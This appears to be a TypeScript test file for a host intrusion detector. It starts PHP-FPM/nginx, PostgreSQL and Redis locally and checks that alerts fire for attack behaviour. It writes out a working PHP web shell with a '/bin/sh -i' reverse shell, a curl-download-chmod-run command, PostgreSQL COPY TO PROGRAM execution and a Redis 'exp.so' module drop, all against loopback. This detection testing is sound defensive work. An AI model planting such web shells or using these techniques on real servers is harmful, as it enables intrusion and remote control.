/** Real servers that are made to run commands: PHP behind FastCGI, PostgreSQL's COPY TO PROGRAM, Redis that writes a module. */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttp, request } from 'node:http';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../need.ts';
import { freePort } from '../port.ts';
import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';
import type { AlertLine } from '../live/moat.ts';

const summary = (alert: AlertLine): string => (alert as unknown as { summary: string }).summary;
const postgres = '/usr/lib/postgresql/15/bin';

describe.skipIf(lacks({ root: true }) || await lacksKernel())('servers that start what they never did', () => {
  let watch: Watch;
  const folder = mkdtempSync(join(tmpdir(), 'servers-'));
  const daemons: ChildProcess[] = [];
  /** An alert is shown as soon as it is raised, and again when more is known: `level` waits for that. */
  const told = (id: string, text: string, level?: string): Promise<AlertLine> => watch.waitFor((one) => one.rule_id === `behaviour.${id}` && summary(one).includes(text) && (level === undefined || one.level === level), `${id} of ${text}`);

  beforeAll(async () => {
    chmodSync(folder, 0o755);
    watch = await startWatch({ behaviours: ['server-shell', 'reverse-shell', 'triad', 'download-run'], settings: { triad: { local: true }, 'download-run': { local: true } } });
  });
  afterAll(async () => {
    for (const child of daemons) {
      if (child.exitCode !== null) continue;
      const gone = new Promise((resolve) => { child.once('exit', resolve); });
      child.kill('SIGTERM');
      await gone;
    }
    await watch?.end();
    rmSync(folder, { recursive: true, force: true });
  });

  it('php: a web shell asks who it is, opens a shell to the far end, and drops a program', async () => {
    if (lacks({ files: ['/usr/sbin/php-fpm8.2', '/usr/sbin/nginx'], why: 'a web shell' })) return;
    const web = await freePort();
    const socket = join(folder, 'php.sock');
    const root = join(folder, 'www');
    mkdirSync(root);
    writeFileSync(join(root, 'shell.php'), '<?php if (isset($_GET["f"])) { $s = fsockopen("127.0.0.1", (int)$_GET["f"]); $p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $x); proc_close($p); } else { echo shell_exec($_GET["c"]); }');
    writeFileSync(join(folder, 'fpm.conf'), `[global]\nerror_log = ${folder}/fpm.log\npid = ${folder}/fpm.pid\n[www]\nuser = www-data\ngroup = www-data\nlisten = ${socket}\nlisten.mode = 0666\npm = static\npm.max_children = 1\n`);
    writeFileSync(join(folder, 'nginx.conf'), `pid ${folder}/nginx.pid;\nerror_log ${folder}/nginx.log;\nworker_processes 1;\nevents {}\nhttp { access_log off; client_body_temp_path ${folder}/t1; proxy_temp_path ${folder}/t2; fastcgi_temp_path ${folder}/t3; uwsgi_temp_path ${folder}/t4; scgi_temp_path ${folder}/t5; server { listen 127.0.0.1:${web}; root ${root}; location ~ \\.php$ { fastcgi_pass unix:${socket}; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_param QUERY_STRING $query_string; fastcgi_param REQUEST_METHOD $request_method; } } }\n`);
    daemons.push(spawn('/usr/sbin/php-fpm8.2', ['-F', '-y', join(folder, 'fpm.conf')], { stdio: 'ignore' }));
    for (let i = 0; i < 100 && !existsSync(socket); i++) await sleep(50);
    daemons.push(spawn('/usr/sbin/nginx', ['-c', join(folder, 'nginx.conf'), '-e', join(folder, 'nginx.log'), '-g', 'daemon off;'], { stdio: 'ignore' }));
    const ask = (query: string): Promise<string> => new Promise((resolve, reject) => {
      request({ host: '127.0.0.1', port: web, path: `/shell.php?${query}` }, (response) => { let text = ''; response.on('data', (chunk: Buffer) => { text += chunk.toString(); }); response.on('end', () => { resolve(text); }); }).on('error', reject).end();
    });
    let answer = '';
    for (let i = 0; i < 100 && answer === ''; i++) answer = await ask('c=id').catch(() => sleep(50, ''));
    expect(answer).toContain('www-data');
    const asked = await told('server-shell', 'php-fpm asks who and where it is: sh -c id');
    expect(asked.level).toBe('high');
    expect(summary(asked)).toContain('begun by the web service php-fpm');

    const far = createServer((peer) => { peer.on('error', () => peer.destroy()); setTimeout(() => peer.write('exit\n'), 300); });
    await new Promise<void>((resolve) => { far.listen(0, '127.0.0.1', resolve); });
    const { port } = far.address() as AddressInfo;
    try {
      await ask(`f=${port}`);
      const shell = await told('reverse-shell', `127.0.0.1:${port}`, 'critical');
      expect(summary(shell)).toContain('the web service php-fpm');
    } finally { far.close(); }

    const file = '/dev/shm/servers-dropped';
    const files = createHttp((_request, response) => { response.end('#!/bin/sh\ntrue\n'); });
    await new Promise<void>((resolve) => { files.listen(0, '127.0.0.1', resolve); });
    try {
      await ask(`c=${encodeURIComponent(`curl -so ${file} http://127.0.0.1:${(files.address() as AddressInfo).port}/; chmod +x ${file}; ${file}; rm ${file}`)}`);
      expect((await told('triad', file)).level).toBe('critical');
      expect((await told('download-run', file)).level).toBe('critical');
    } finally { files.close(); rmSync(file, { force: true }); }
  });

  it('postgres: COPY TO PROGRAM', async () => {
    if (lacks({ files: [`${postgres}/initdb`], why: 'COPY TO PROGRAM' })) return;
    const data = join(folder, 'pg');
    mkdirSync(data);
    execFileSync('chown', ['postgres:', data]);
    const as = ['-u', 'postgres', '--'];
    execFileSync('/usr/sbin/runuser', [...as, `${postgres}/initdb`, '-D', data, '-A', 'trust', '--no-sync'], { stdio: 'ignore', cwd: '/' });
    daemons.push(spawn('/usr/sbin/runuser', [...as, `${postgres}/postgres`, '-D', data, '-k', data, '-c', 'listen_addresses=', '-c', 'fsync=off'], { stdio: 'ignore', cwd: '/' }));
    const sql = (text: string): string => execFileSync('/usr/sbin/runuser', [...as, 'psql', '-h', data, '-d', 'postgres', '-c', text], { stdio: ['ignore', 'pipe', 'ignore'], cwd: '/' }).toString();
    for (let i = 0; i < 100; i++) { try { sql('select 1'); break; } catch { await sleep(100); } }
    sql("COPY (SELECT 1) TO PROGRAM 'id > /dev/null'");
    const alert = await told('server-shell', 'postgres asks who and where it is');
    expect(summary(alert)).toContain('the service postgres');
  });

  it('redis: a library written by the database', async () => {
    if (lacks({ files: ['/usr/bin/redis-server'], why: 'a module by Redis' })) return;
    const port = await freePort();
    const data = join(folder, 'redis');
    mkdirSync(data);
    daemons.push(spawn('/usr/bin/redis-server', ['--port', String(port), '--bind', '127.0.0.1', '--dir', data, '--save', '', '--enable-protected-configs', 'yes'], { stdio: 'ignore' }));
    const cli = (...args: string[]): string => execFileSync('/usr/bin/redis-cli', ['-p', String(port), ...args]).toString();
    for (let i = 0; i < 100; i++) { try { cli('ping'); break; } catch { await sleep(50); } }
    cli('config', 'set', 'dbfilename', 'exp.so');
    cli('save');
    expect((await told('server-shell', `${data}/exp.so`)).level).toBe('critical');
  });
});
